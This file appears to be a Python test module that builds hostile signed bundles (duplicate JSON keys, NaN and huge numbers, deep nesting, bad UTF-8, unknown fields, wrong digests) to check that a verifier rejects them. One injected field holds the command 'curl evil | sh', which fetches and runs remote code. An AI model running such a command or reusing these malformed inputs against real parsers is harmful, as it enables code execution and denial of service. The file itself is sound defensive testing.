"""What is wrong with the JSON."""

from __future__ import annotations

import json

from nightschool.marketplace import dsse
from nightschool.schemas.bundle import PAYLOAD_TYPE

from ..making import KEY
from .table import bundle, changed, hostile, parts, variants, with_text


@hostile(30, "json-duplicate")
def key_twice():
    return with_text(b'"predicate": {', b'"predicate": {"format": 1, ')


@hostile(30, "json-duplicate")
def key_twice_in_the_envelope():
    payload, blobs = parts()
    envelope = dsse.sign(json.dumps(payload).encode(), PAYLOAD_TYPE, [KEY])
    return bundle(payload, blobs, envelope=envelope.replace(b'{"payload"', b'{"payload":"","payload"', 1))


@variants(31, *(("json-number", str(n), text) for n, text in enumerate((b"NaN", b"1e999", b"-Infinity", b"7" * 5000))))
def number_that_is_none(text):
    return with_text(b'"steps": 24', b'"steps": ' + text)


@variants(32, ("json-depth", "lists", b"["), ("json-depth", "objects", b'{"a":'))
def deep(opening):
    return with_text(b'"data_note": ""', b'"data_note": ' + opening * 10_000)


@hostile(32, "json-depth")
def deep_envelope():
    return bundle({}, {}, envelope=b"[" * 100_000)


@hostile(33, "json-text")
def bytes_that_are_no_text():
    return with_text(b'"data_note": ""', b'"data_note": "\xff\xfe"')


@hostile(33, "json-text")
def half_a_character():
    return with_text(b'"data_note": ""', b'"data_note": "\\ud800"')


@variants(
    34,
    ("fields", "top", lambda payload: payload.update(more=1)),
    ("fields", "predicate", lambda payload: payload["predicate"].update(install="curl evil | sh")),
    ("fields", "card", lambda payload: payload["predicate"]["card"].update(image="https://evil.example/x.png")),
    ("fields", "missing", lambda payload: payload["predicate"]["card"].pop("license")),
    ("fields", "kind", lambda payload: payload["predicate"]["slot"].update(seq="3")),
    ("fields", "list", lambda payload: [payload]),
    ("fields", "role", lambda payload: payload["predicate"]["files"][0].update(role="code")),
    ("fields", "year-10000", lambda payload: payload["predicate"]["slot"].update(created=253_402_300_800)),
    ("requires", "flag", lambda payload: payload["predicate"].update(requires=["topk-lora"])),
)
def unknown(change):
    return changed(change)


@hostile(34, "subject")
def subject_is_another():
    return changed(lambda payload: payload["subject"][0]["digest"].update(sha256="0" * 64))


@hostile(35, "format")
def newer_format():
    return changed(lambda payload: payload["predicate"].update(format=2))
